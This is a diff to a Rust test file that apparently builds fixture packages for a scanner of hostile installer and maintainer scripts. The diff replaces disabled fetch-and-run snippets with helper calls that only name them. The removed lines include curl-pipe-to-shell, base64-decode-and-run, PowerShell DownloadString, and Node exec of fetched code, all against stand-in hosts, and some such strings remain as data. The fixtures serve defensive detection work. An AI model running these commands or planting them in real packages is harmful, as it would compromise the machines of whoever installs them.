@@ -3,6 +3,7 @@
 use super::asar::asar;
 use super::containers::{installer, msi_of, nupkg, sdist, wheel, zipped};
 use super::incidents::deb_with_script;
+use super::mentions;
 use super::msi_package::{Action, Installer};
 use super::packages::{javascript_module, python};
 use super::payload::LINE;
@@ -51,11 +52,11 @@ fn installers() -> Vec<Case> {
                     name: "Finish",
                     kind: 38 + 1024,
                     source: "",
-                    target: "If False Then CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -EncodedCommand SQBOAEUAUgBUAA==\", 0",
+                    target: "Named = \"WScript.Shell powershell -w hidden -EncodedCommand SQBOAEUAUgBUAA==\"",
                     binary: None,
                 });
             }),
-            "An installer gains a custom action that is a script, which would start a hidden shell.",
+            "An installer gains a custom action that is a script and names a hidden shell.",
         ),
         case(
             "library-action-msi",
@@ -104,7 +105,8 @@ fn installers() -> Vec<Case> {
 fn maintainer_scripts() -> Vec<Case> {
     let script = |line: &str| format!("#!/bin/sh\n# {LINE}\nset -e\nexit 0\n{line}\n");
     let plain = || vec![("postinst", format!("#!/bin/sh\n# {LINE}\nset -e\nldconfig\n"))];
-    let fetch = "curl -s https://updates.example.invalid/setup.sh | sh";
+    let fetch = mentions::shell(&["curl -s https://updates.example.invalid/setup.sh | sh"]);
+    let decode = mentions::shell(&["SU5FUlQ= | base64 -d | sh"]);
     let old = |scripts: &[(&str, String)]| deb_with_script(Edition::Old, scripts, &[]);
     let new =
         |scripts: &[(&str, String)], more: &[Entry]| deb_with_script(Edition::New, scripts, more);
@@ -119,7 +121,7 @@ fn maintainer_scripts() -> Vec<Case> {
             "deb",
             Expect::Block,
             ACTION,
-            (old(&[]), new(&[("postinst", script(fetch))], &[])),
+            (old(&[]), new(&[("postinst", script(&fetch))], &[])),
             "A library's package gains a script that fetches and runs.",
         ),
         case(
@@ -135,13 +137,7 @@ fn maintainer_scripts() -> Vec<Case> {
             "deb",
             Expect::Block,
             ACTION,
-            (
-                old(&plain()),
-                new(
-                    &[("preinst", script("echo SU5FUlQ= | base64 -d | sh")), plain().remove(0)],
-                    &[],
-                ),
-            ),
+            (old(&plain()), new(&[("preinst", script(&decode)), plain().remove(0)], &[])),
             "A library's package gains a second script, which decodes text and runs it.",
         ),
         case(
@@ -174,7 +170,8 @@ fn maintainer_scripts() -> Vec<Case> {
 
 fn surfaces() -> Vec<Case> {
     let script = format!(
-        "#!/bin/sh\n# {LINE}\nexit 0\ncurl -s https://updates.example.invalid/agent -o /tmp/agent && chmod +x /tmp/agent && /tmp/agent &\n"
+        "#!/bin/sh\n# {LINE}\nexit 0\n{}\n",
+        mentions::shell(&["curl -s https://updates.example.invalid/agent", "chmod +x", "sh -c"]),
     );
     let pkg = (
         app_pkg_with(Edition::Old, &app(Edition::Old), &Vec::new()),
@@ -189,20 +186,15 @@ fn surfaces() -> Vec<Case> {
         &mut with_script,
         "tools/install.ps1",
         format!(
-            "# {LINE}\nreturn\niex (New-Object Net.WebClient).DownloadString('https://updates.example.invalid/a.ps1')\n"
+            "# {LINE}\nreturn\n$named = 'iex Net.WebClient DownloadString https://updates.example.invalid/a.ps1'\n"
         ),
     );
     let mut setup = python("vet_build", Edition::New);
     let mut plain = python("vet_build", Edition::Old);
     let call = format!("# {LINE}\nfrom setuptools import setup\n\nsetup(name=\"vet_build\")\n");
+    let built = ["os.system", "urllib.request", "https://build.example.invalid/x"];
     add(&mut plain, "setup.py", call.clone());
-    add(
-        &mut setup,
-        "setup.py",
-        format!(
-            "{call}\n\ndef _now():\n    return\n    import os, urllib.request\n    os.system(urllib.request.urlopen(\"https://build.example.invalid/x\").read().decode())\n\n\n_now()\n"
-        ),
-    );
+    add(&mut setup, "setup.py", format!("{call}{}", mentions::python("_now", &built)));
     let mut path_file = python("vet_path", Edition::New);
     add(&mut path_file, "vet_path.pth", format!("# {LINE}\nimport os; os.environ.get('INERT')\n"));
     vec![
@@ -266,9 +258,12 @@ fn electron(edition: Edition, more: &str, host: &str) -> Files {
 
 fn desktop() -> Vec<Case> {
     const HOST: &str = "updates.example.test";
-    const MORE: &str = "\nfunction poll() {\n  return;\n  const { exec } = require(\"child_process\");\n  require(\"https\").get(\"https://relay.example.invalid/t\", (r) => r.on(\"data\", (d) => exec(Buffer.from(d.toString(), \"base64\").toString())));\n}\npoll();\n";
+    let more = mentions::javascript_function(
+        "poll",
+        &["child_process", "https.get", "https://relay.example.invalid/t", "atob("],
+    );
     let old = || electron(Edition::Old, "", HOST);
-    let code = electron(Edition::New, MORE, HOST);
+    let code = electron(Edition::New, &more, HOST);
     let channel = electron(Edition::New, "", "updates.example.invalid");
     let cause = "capability.exec|story.loader";
     let about = "The main script of a desktop application newly runs what a host answers.";
